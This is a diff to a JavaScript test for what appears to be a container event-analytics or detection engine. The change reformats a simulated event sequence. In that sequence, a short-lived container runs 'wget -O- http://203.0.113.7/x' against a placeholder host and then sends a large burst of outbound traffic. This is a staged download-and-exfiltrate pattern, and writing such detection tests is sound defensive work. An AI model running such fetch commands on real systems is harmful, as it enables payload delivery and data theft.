@@ -23,7 +23,9 @@ test('engine: analytics see every event, judge closed intervals on the watermark
     evs.push(statsEvent(api, t0 + s * 30_000, { txTotal: total }));
   }
   const at = t0 + 5.5 * 3_600_000;
-  evs.push(lifecycleEvent(job, at, 'create', { autoRemove: true }), execEvent(job, at + 1000, '/usr/bin/wget', ['-O-', 'http://203.0.113.7/x']),
+  evs.push(
+    lifecycleEvent(job, at, 'create', { autoRemove: true }),
+    execEvent(job, at + 1000, '/usr/bin/wget', ['-O-', 'http://203.0.113.7/x']),
     statsEvent(job, at + 2000, { txTotal: 0 }),
     statsEvent(job, at + 12_000, { txTotal: 60_000_000 }),
     lifecycleEvent(job, at + 20_000, 'die', { autoRemove: true }),
